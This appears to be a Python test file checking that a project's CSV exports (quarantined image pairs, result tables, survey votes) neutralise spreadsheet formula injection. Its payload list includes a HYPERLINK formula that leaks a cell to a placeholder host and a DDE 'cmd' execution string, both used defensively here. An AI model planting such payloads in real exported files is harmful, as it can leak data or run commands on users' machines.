"""Names of pictures and reasons are text in every table: a spreadsheet that opens one runs none of them."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from flows.cli import app
from storage import quarantine
from storage.quarantine import Quarantined
from storage.table_files import write_table
from storage.tables import Measured, pairs_table
from tasks.study.tally import Tally
from tasks.study.votes import Vote

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1)',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1",
    "\r=1",
    "'=1+1",
    "''-1",
    "\uff1d1+1",
]
PLAIN = ["cat=1", "a-b", "'quoted'", "", "1.5", "ünïcode"]


def cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("text", [text for text in (*FORMULAS, *PLAIN) if "\r" not in text])  # no id or reason has one
def test_a_quarantined_pair_keeps_its_name_and_reason(tmp_path: Path, text: str) -> None:
    path = tmp_path / "quarantine.csv"
    reason = " ".join(text.split())
    quarantine.write(path, {text: Quarantined("warp", text), "other": Quarantined("warp", "x")})
    assert quarantine.read(path) == {text: Quarantined("warp", reason), "other": Quarantined("warp", "x")}
    assert not [cell for row in cells(path) for cell in row if cell[:1] in tuple("=+-@\t\r\uff1d")]


def test_tables_have_no_formula_in_csv_and_the_raw_text_in_parquet(tmp_path: Path) -> None:
    rows = [
        {"index": number, "pair_id": text, "source": text, "state": "done", "value": -1.5}
        for number, text in enumerate(FORMULAS)
    ]
    table = pairs_table(rows, Measured())
    write_table(tmp_path, "pairs", table)
    head, *body = cells(tmp_path / "pairs.csv")
    for row, text in zip(body, FORMULAS, strict=True):
        found = dict(zip(head, row, strict=True))
        assert found["pair_id"] == found["source"] == f"'{text}".replace("\r", " ")
        assert found["value"] == "-1.5"  # numbers stay numbers
        assert found["reason"] == ""
    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "pairs.parquet"), table)


def test_a_quarantine_of_before_opens(tmp_path: Path) -> None:
    path = tmp_path / "quarantine.csv"
    path.write_text("pair_id,stage,reason\na__b,warp,'x.png' is not a picture\n", encoding="utf-8")
    assert quarantine.read(path) == {"a__b": Quarantined("warp", "'x.png' is not a picture")}


def test_votes_of_strangers_are_no_formulas(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    votes = [(Vote(text, "1", "q", "c"), "=mgi") for text in FORMULAS]  # whoever sees the page may say any name
    monkeypatch.setattr("tasks.study.tally.tally", lambda folder: Tally([], len(votes), 0))
    monkeypatch.setattr("tasks.study.tally.named_votes", lambda folder: votes)
    path = tmp_path / "votes.csv"
    assert CliRunner().invoke(app, ["study", "tally", str(tmp_path), "--export", str(path)]).exit_code == 0
    assert len(cells(path)) == len(votes) + 1
    assert not [cell for row in cells(path) for cell in row if cell[:1] in tuple("=+-@\t\r\uff1d")]
